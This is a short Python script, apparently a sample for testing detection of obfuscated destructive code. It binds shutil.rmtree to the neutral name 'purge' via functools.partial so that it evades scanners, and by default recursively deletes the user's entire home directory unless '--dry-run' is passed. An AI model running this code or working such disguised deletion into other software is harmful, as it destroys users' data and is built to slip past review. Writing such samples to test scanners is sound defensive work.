# Evasion: deletes the user's home directory recursively.
# Hidden behind functools.partial: "purge" is partial(shutil.rmtree,
# ignore_errors=True), kept under a neutral name and called later with
# Path.home(), so the deleting call is not written as one.
import functools
import shutil
import sys
from pathlib import Path

purge = functools.partial(shutil.rmtree, ignore_errors=True)


def reset(force=False):
    root = Path.home()
    if force:
        purge(root)
        return True
    print("would purge", root)
    return False


if __name__ == "__main__":
    reset(force="--dry-run" not in sys.argv)
